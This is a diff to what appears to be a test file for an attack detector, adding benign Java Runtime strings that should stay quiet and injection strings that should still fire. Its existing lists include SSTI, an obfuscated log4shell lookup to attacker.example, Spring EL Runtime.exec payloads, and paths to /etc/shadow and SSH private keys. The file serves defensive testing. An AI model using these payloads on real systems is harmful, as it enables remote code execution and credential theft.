@@ -40,6 +40,9 @@ QUIET = [
     ("ssti", "environment:\n  REDIS_HOST: ${REDIS_HOST:-redis}\n  LOG_LEVEL: ${LOG_LEVEL:=info}"),
     ("ssti", 'Value: !Sub "arn:${AWS::Partition}:s3:::logs-${AWS::Region}/*"'),
     ("ssti", "spring.datasource.username=${DB_USER:app}"),
+    # code_injection: the JVM's runtime asked for its resources runs nothing
+    ("code_injection", "int cpus = Runtime.getRuntime().availableProcessors();"),
+    ("code_injection", "Runtime.getRuntime().maxMemory() is 3/4 of the function's memory"),
     # path_traversal: /bin and /sbin hold programs; a shell's path names one
     ("path_traversal", "#!/bin/sh\nexec gunicorn app:app"),
     ("path_traversal", "Login shell changed to /bin/zsh for user deploy"),
@@ -85,6 +88,8 @@ STILL_FIRES = [
     ("ssti", "${x:-$(id)}"),
     ("ssti", "${session.getClass()}"),
     ("log4shell", "${${x:-j}ndi:ldap://attacker.example/a}"),
+    ("code_injection", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
+    ("code_injection", "r = Runtime.getRuntime(); r.exec(cmd)"),
     ("path_traversal", "/bin/../etc/shadow"),
     ("path_traversal", "file=/etc/passwd"),
     ("path_traversal", "/root/.ssh/id_rsa"),
